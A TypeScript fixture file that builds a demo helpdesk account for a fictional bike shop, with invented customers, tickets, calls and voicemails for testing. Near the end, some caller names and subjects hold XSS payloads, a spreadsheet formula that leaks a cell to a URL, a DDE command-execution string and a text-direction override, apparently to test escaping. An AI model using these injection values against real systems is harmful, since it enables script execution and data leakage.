import type { Account, UserRecord } from './account.ts';
import {
  accountMadeAt,
  activity,
  admin,
  agent,
  emptyAccount,
  endUser,
  lightAgent,
  line,
} from './builders.ts';
import { tellAda } from './demoAda.ts';
import { tellElsewhere } from './demoElsewhere.ts';
import { teller } from './demoStory.ts';

const minute = 60_000;
const day = 86_400_000;

const salesLine = { number: '+15550100998', nickname: 'Sales line' };

/** The demo account's people by the part they play; all names, numbers and addresses are invented. */
export interface DemoPeople {
  readonly dana: UserRecord;
  readonly omar: UserRecord;
  readonly ines: UserRecord;
  readonly lena: UserRecord;
  /** Sixty requested tickets, two more in copy, one of them with a stranger's call. */
  readonly ada: UserRecord;
  readonly bruno: UserRecord;
  /** Her solved ticket stands in the way of her deletion. */
  readonly chiara: UserRecord;
  /** One call with a live part and a voicemail. */
  readonly grete: UserRecord;
  readonly hiro: UserRecord;
  /** Every recording is gone already. */
  readonly ivan: UserRecord;
  readonly karim: UserRecord;
  readonly salma: UserRecord;
  readonly marta: UserRecord;
  /** Closed and archived tickets only: nothing stands in the way. */
  readonly nora: UserRecord;
  readonly layla: UserRecord;
  readonly zoe: UserRecord;
}

/** A company that repairs and sells bicycles: made for looking, with the traps of real life. */
export function demoAccount(madeAt: number = accountMadeAt): Account {
  return demoWorld(madeAt).account;
}

/** The same account with its people at hand, for tests. */
export function demoWorld(madeAt: number = accountMadeAt): {
  readonly account: Account;
  readonly people: DemoPeople;
} {
  const account = emptyAccount({ madeAt });
  line(account, { ...salesLine, consent: 'opt_in' });

  const dana = admin(account, { name: 'Dana Whitfield', email: 'dana@example.com', owner: true });
  const omar = agent(account, {
    name: 'Omar Haddad',
    email: 'omar@example.com',
    phone: '+15550100150',
    identities: [{ type: 'agent_forwarding', value: '+15550100151' }],
  });
  const ines = agent(account, { name: 'Ines Ferreira', email: 'ines@example.com' });
  const lena = lightAgent(account, { name: 'Lena Brandt', email: 'lena@example.com' });
  activity(account, omar);
  activity(account, ines);

  const caller = (name: string, phone: string | null, email: string | null = null): UserRecord =>
    endUser(account, { name, phone, email });
  const ada = endUser(account, {
    name: 'Ada Example',
    email: 'ada@example.com',
    phone: '+15550100101',
    identities: [
      { type: 'phone_number', value: '+15550100102' },
      { type: 'email', value: 'ada.example@example.org' },
    ],
    createdAt: madeAt - 1700 * day,
    lastLoginAt: madeAt - 3 * day,
    tags: ['club_member'],
  });
  const bruno = caller('Bruno Keller', '+15550100105', 'bruno.keller@example.com');
  const chiara = caller('Chiara Lombardi', '+15550100108', 'chiara@example.com');
  const grete = caller('Grete Vogel', '+15550100110', 'grete.vogel@example.com');
  const hiro = caller('Hiro Tanaka', '+15550100112', 'hiro@example.com');
  const ivan = caller('Ivan Petrov', '+15550100114', 'ivan.petrov@example.com');
  const karim = endUser(account, {
    name: 'Karim Nasser',
    email: 'karim@example.com',
    phone: '+15550100120',
    sharedPhone: true,
  });
  const salma = endUser(account, {
    name: 'Salma Nasser',
    email: 'salma@example.com',
    phone: '+15550100120',
    sharedPhone: true,
  });
  const marta = caller('Marta Silva', '+15550100130', 'marta.silva@example.com');
  const nora = caller('Nora Lindqvist', '+15550100136', 'nora@example.com');
  const layla = caller('ليلى حداد', '+15550100140', 'layla@example.com');
  const zoe = caller('Zoë 👩🏽‍🚒🔥 O’Neill', '+15550100146', 'zoe@example.com');

  const tell = teller(account, [omar, ines]);

  tellAda(tell, ada, { bruno, omar, ines });

  tell(bruno, {
    subject: 'Shared workshop slot on Saturday',
    daysAgo: 16,
    status: 'pending',
    cc: [ada],
    says: [
      'Ada Example and I would like to share the workshop slot on Saturday. She is in copy.',
      { by: omar, text: 'Happy to. May I ring you about the tools that you need?' },
      { call: { direction: 'outbound', answeredBy: omar, durationSeconds: 264, to: bruno.phone } },
      { by: omar, text: 'As said on the phone: stand 4, from ten o’clock.' },
    ],
  });
  tell(bruno, {
    subject: 'Minutes of the cycling club, for information',
    daysAgo: 40,
    status: 'closed',
    cc: [ada],
    says: ['The minutes of Tuesday, with Ada in copy. No answer needed.'],
  });
  tell(bruno, {
    via: 'inbound',
    daysAgo: 200,
    archived: true,
    says: [
      { call: { answeredBy: ines, durationSeconds: 412 } },
      { by: ines, text: 'Wants a quote for four hire bikes.', isNote: true },
    ],
  });

  tell(chiara, {
    via: 'inbound',
    daysAgo: 70,
    status: 'closed',
    says: [
      { call: { answeredBy: omar, durationSeconds: 187 } },
      { by: omar, text: 'Derailleur replaced under warranty.', isNote: true },
    ],
  });
  tell(chiara, {
    via: 'voicemail',
    daysAgo: 66,
    status: 'closed',
    says: [
      {
        call: {
          kind: 'voicemail',
          durationSeconds: 24,
          transcript:
            'Hello, Chiara Lombardi here. The gears are fine now, thank you. No need to call back.',
        },
      },
    ],
  });
  tell(chiara, {
    subject: 'Invoice for the derailleur',
    daysAgo: 2,
    status: 'solved',
    says: [
      'Could you send me the invoice again, please? I cannot find it.',
      { by: ines, text: 'Here it is, attached. Have a good ride!' },
      'Got it, thanks.',
    ],
  });

  tell(grete, {
    via: 'inbound',
    daysAgo: 9,
    status: 'open',
    says: [
      {
        call: {
          recorded: 'both',
          answeredBy: omar,
          durationSeconds: 141,
          transcript:
            'The line went dead, so once more: please call me back before noon, it is about the cargo bike.',
        },
      },
      { by: omar, text: 'Call dropped; she went on speaking on the voicemail.', isNote: true },
    ],
  });
  tell(grete, {
    subject: 'Cargo bike: brake fluid',
    daysAgo: 8,
    status: 'pending',
    says: [
      'Which brake fluid does the cargo bike take?',
      { by: omar, text: 'Mineral oil, never DOT. I ring you to explain the bleeding.' },
      { call: { direction: 'outbound', answeredBy: omar, durationSeconds: 655, to: grete.phone } },
    ],
  });

  tell(hiro, {
    via: 'api',
    subject: 'Call with Hiro Tanaka (Example telephony)',
    daysAgo: 33,
    status: 'closed',
    says: [
      {
        partner: {
          durationSeconds: 318,
          transcript: 'Agent: Good morning. Caller: I would like to move my service date.',
        },
      },
    ],
  });
  tell(hiro, {
    via: 'api',
    subject: 'Call with Hiro Tanaka (Example telephony)',
    daysAgo: 12,
    status: 'closed',
    says: [
      {
        partner: {
          direction: 'outbound',
          from: '+15550100888',
          to: '+15550100112',
          recordingUrl: null,
        },
      },
      { by: ines, text: 'New date: Thursday at nine.', isNote: true },
    ],
  });
  tell(hiro, {
    via: 'inbound',
    daysAgo: 5,
    status: 'closed',
    says: [{ call: { answeredBy: ines, durationSeconds: 96 } }],
  });

  tell(ivan, {
    via: 'inbound',
    daysAgo: 320,
    archived: true,
    says: [{ call: { recorded: 'gone', answeredBy: ines, durationSeconds: 530 } }],
  });
  tell(ivan, {
    via: 'voicemail',
    daysAgo: 290,
    archived: true,
    says: [
      {
        call: {
          kind: 'voicemail',
          recorded: 'gone',
          transcript:
            'Ivan Petrov. My number is plus one five five five, zero one zero, zero one one four.',
        },
      },
    ],
  });
  tell(ivan, {
    via: 'inbound',
    daysAgo: 90,
    status: 'closed',
    says: [{ call: { recorded: false, answeredBy: omar, durationSeconds: 75 } }],
  });

  tell(karim, {
    via: 'inbound',
    daysAgo: 21,
    status: 'closed',
    says: [
      { call: { answeredBy: omar, durationSeconds: 233 } },
      { by: omar, text: 'Karim asks whether the child seat fits the blue bike.', isNote: true },
    ],
  });
  tell(salma, {
    via: 'inbound',
    daysAgo: 20,
    status: 'open',
    says: [
      { call: { answeredBy: ines, durationSeconds: 301, author: salma } },
      { by: ines, text: 'Salma rings from the same number as her husband Karim.', isNote: true },
    ],
  });

  tell(marta, {
    via: 'inbound',
    daysAgo: 48,
    status: 'closed',
    says: [
      {
        call: {
          answeredBy: ines,
          durationSeconds: 149,
          lineName: salesLine.nickname,
          to: salesLine.number,
        },
      },
    ],
  });
  // The same woman from her mobile: Talk makes a profile per spelling of a number that it does not know.
  const martaMobile = caller('Caller +1 (555) 010-0131', '+15550100131');
  tell(martaMobile, {
    via: 'voicemail',
    daysAgo: 47,
    status: 'closed',
    says: [
      {
        call: {
          kind: 'voicemail',
          durationSeconds: 52,
          transcript: 'This is Marta Silva, from my mobile. Please cancel the sales appointment.',
        },
      },
    ],
  });
  const martaAgain = caller('Caller +1 555 0100131', null);
  tell(martaAgain, {
    via: 'inbound',
    daysAgo: 46,
    status: 'closed',
    says: [{ call: { from: '+15550100131', answeredBy: omar, durationSeconds: 64 } }],
  });

  for (const [daysAgo, seconds] of [
    [28, 39],
    [27, 122],
  ] as const) {
    const hidden = caller('Caller Anonymous', null);
    tell(hidden, {
      via: 'inbound',
      daysAgo,
      status: 'closed',
      says: [{ call: { from: null, answeredBy: omar, durationSeconds: seconds, location: null } }],
    });
  }

  tell(nora, {
    via: 'inbound',
    daysAgo: 400,
    archived: true,
    says: [
      { call: { answeredBy: ines, durationSeconds: 338 } },
      {
        by: ines,
        text: 'Call summary: Nora Lindqvist asked about a tandem for her parents, +1 555 010 0136 in the mornings.',
        isNote: true,
      },
    ],
  });
  tell(nora, {
    via: 'voicemail',
    daysAgo: 396,
    archived: true,
    says: [
      {
        call: {
          kind: 'voicemail',
          durationSeconds: 41,
          transcript: 'Nora Lindqvist again. We take the green one. Until Friday.',
        },
      },
    ],
  });
  tell(nora, {
    subject: 'Photo of the tandem',
    daysAgo: 60,
    status: 'closed',
    says: [
      'My parents on their first tour, with thanks to the whole team.',
      { by: ines, text: 'What a picture! It hangs in the workshop now.' },
    ],
  });

  const markup = caller(
    '<img src=x onerror=alert(1)> <b>Robert</b> & "Sons"',
    '+15550100142',
    'robert@example.com',
  );
  tell(markup, {
    via: 'voicemail',
    subject: 'Voicemail from: <script>alert("ticket")</script> {{ticket.title}}',
    daysAgo: 14,
    status: 'open',
    says: [
      {
        call: {
          kind: 'voicemail',
          transcript:
            '</p><svg onload=alert(2)> My company really is called that. <a href="javascript:alert(3)">Ring me</a>.',
          location: '<i>Springfield</i>',
        },
      },
    ],
  });
  const formula = caller(
    '=HYPERLINK("https://example.com/?leak="&A1;"Refund")',
    '+15550100144',
    'formula@example.com',
  );
  tell(formula, {
    via: 'inbound',
    subject: "@SUM(1+1)*cmd|' /C calc'!A0",
    daysAgo: 13,
    status: 'open',
    says: [
      {
        call: {
          answeredBy: omar,
          durationSeconds: 58,
          location: '+cmd',
          transcript: '-2+3 bicycles, he said.',
        },
      },
    ],
  });

  tell(layla, {
    via: 'voicemail',
    subject: 'بريد صوتي من: ليلى حداد',
    daysAgo: 11,
    status: 'open',
    says: [
      {
        call: {
          kind: 'voicemail',
          durationSeconds: 37,
          transcript: 'مرحبا، أنا ليلى حداد. الدراجة جاهزة؟ رقمي +1 555 010 0140.',
          location: 'بيروت',
        },
      },
      { by: omar, text: 'أهلا ليلى، الدراجة جاهزة يوم الخميس.' },
    ],
  });
  const turned = caller('\u202Etxet desrever\u202C Kim', '+15550100148');
  tell(turned, {
    via: 'inbound',
    daysAgo: 10,
    status: 'closed',
    says: [{ call: { answeredBy: ines, durationSeconds: 83 } }],
  });

  tell(zoe, {
    via: 'inbound',
    subject: 'Call from: Zoë 👩🏽‍🚒🔥 — flat tyre 🚲💨',
    daysAgo: 6,
    status: 'pending',
    says: [
      { call: { answeredBy: omar, durationSeconds: 201, location: 'Zürich 🇨🇭' } },
      { by: omar, text: 'Tube 28″ set aside 👍', isNote: true },
    ],
  });
  // The audio of a call appears some time after it: this one's is still on its way.
  tell(zoe, {
    via: 'inbound',
    daysAgo: 18 / 1440,
    status: 'open',
    says: [
      {
        after: 1,
        call: { answeredBy: ines, durationSeconds: 127, readyAt: madeAt + 25 * minute },
      },
    ],
  });

  tell(omar, {
    via: 'inbound',
    subject: 'Call from: Omar Haddad',
    daysAgo: 30,
    status: 'closed',
    says: [
      { call: { answeredBy: ines, durationSeconds: 44 } },
      { by: ines, text: 'Omar rang from home: he is ill today.', isNote: true },
    ],
  });

  tellElsewhere(account, tell, { ada, bruno, omar, ines });

  return {
    account,
    people: {
      dana,
      omar,
      ines,
      lena,
      ada,
      bruno,
      chiara,
      grete,
      hiro,
      ivan,
      karim,
      salma,
      marta,
      nora,
      layla,
      zoe,
    },
  };
}
